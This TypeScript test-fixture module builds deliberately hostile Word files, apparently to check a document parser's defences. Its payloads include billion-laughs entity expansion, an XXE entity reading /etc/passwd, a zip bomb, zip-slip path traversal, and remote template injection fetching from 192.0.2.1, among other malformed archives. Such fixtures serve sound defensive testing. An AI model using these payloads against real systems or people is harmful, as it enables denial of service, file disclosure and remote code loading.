import { type RawEntry, rawZip } from './zips.ts'

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)
const types =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const rels =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')

export const paragraph = (text: string, style?: string): string =>
  `<w:p>${style ? `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>` : ''}<w:r><w:t xml:space="preserve">${escaped(text)}</w:t></w:r></w:p>`

/** A Word file of the given paragraphs, or of raw body XML, with more parts. */
export const docx = (body: string, more: readonly RawEntry[] = [], head = ''): Uint8Array =>
  rawZip([
    { name: '[Content_Types].xml', data: utf8(types) },
    { name: '_rels/.rels', data: utf8(rels) },
    {
      name: 'word/document.xml',
      data: utf8(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${head}<w:document ${w}><w:body>${body}</w:body></w:document>`),
    },
    ...more,
  ])

const relations = (...rows: readonly string[]): Uint8Array =>
  utf8(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows.join('')}</Relationships>`,
  )
const external = (type: string, target: string): string =>
  `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`

export const hostileDocx = {
  laughs: () =>
    docx(
      paragraph('&lol9;'),
      [],
      `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n === 0 ? '' : n};`.repeat(10)}">`).join('')}]>`,
    ),
  external: () => docx(paragraph('x'), [], '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  bomb: () =>
    rawZip([
      { name: '[Content_Types].xml', data: utf8(types) },
      { name: '_rels/.rels', data: utf8(rels) },
      { name: 'word/document.xml', data: new Uint8Array(300 * 1024 * 1024).fill(32), size: 1000 },
    ]),
  deep: () => docx('<w:tbl><w:tr><w:tc>'.repeat(20_000) + paragraph('x') + '</w:tc></w:tr></w:tbl>'.repeat(20_000)),
  slip: () => docx(paragraph('x'), [{ name: '../../../outside.xml', data: utf8('x') }]),
  twins: () => docx(paragraph('x'), [{ name: 'WORD/document.xml', data: utf8('x') }]),
  template: () =>
    docx(paragraph('Dear colleague'), [
      { name: 'word/_rels/settings.xml.rels', data: relations(external('attachedTemplate', 'http://192.0.2.1/t.dotm')) },
    ]),
  /** A `>` in an attribute, other quotation marks, a name space of its own. */
  hiddenTemplate: () =>
    docx(paragraph('Dear colleague'), [
      {
        name: 'word/_rels/settings.xml.rels',
        data: utf8(
          `<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id='a>b' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='http://192.0.2.1/t.dotm' TargetMode = 'External'/></p:Relationships>`,
        ),
      },
    ]),
  openBrackets: () =>
    docx(paragraph('Dear colleague'), [
      { name: 'word/header1.xml', data: utf8('<w:t '.repeat(300_000)) },
      { name: 'docProps/app.xml', data: utf8('<Application '.repeat(200_000)) },
      { name: 'word/_rels/settings.xml.rels', data: utf8(`<Relationship ${'TargetMode="External" '.repeat(100_000)}`) },
    ]),
  hiddenInCharacters: () => docx(`<w:p><w:r><w:t><![CDATA[${'<w:vanish '.repeat(300_000)}]]></w:t></w:r></w:p>`),
  empty: () => docx('<w:p/>'.repeat(500_000)),
  closersFirst: () => docx('</w:p>'.repeat(20_000) + '<w:tbl><w:tr><w:tc>'.repeat(20_000)),
  sharedPart: () => docx(paragraph('x'), [{ name: 'word/header1.xml', data: utf8('x'), sharesDataOf: 2 }]),
  /** The end of the table says that the true numbers stand elsewhere, and nothing stands there. */
  zip64: () => {
    const bytes = Buffer.from(docx(paragraph('x')))
    const end = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 5, 6]))
    bytes.fill(0xff, end + 8, end + 20)
    return new Uint8Array(bytes)
  },
  /** Two Word files, one behind the other: which one is read depends on who reads. */
  two: () => new Uint8Array(Buffer.concat([docx(paragraph('one')), docx(paragraph('other'))])),
  macro: () => docx(paragraph('Dear colleague'), [{ name: 'word/vbaProject.bin', data: utf8('VBA') }]),
}
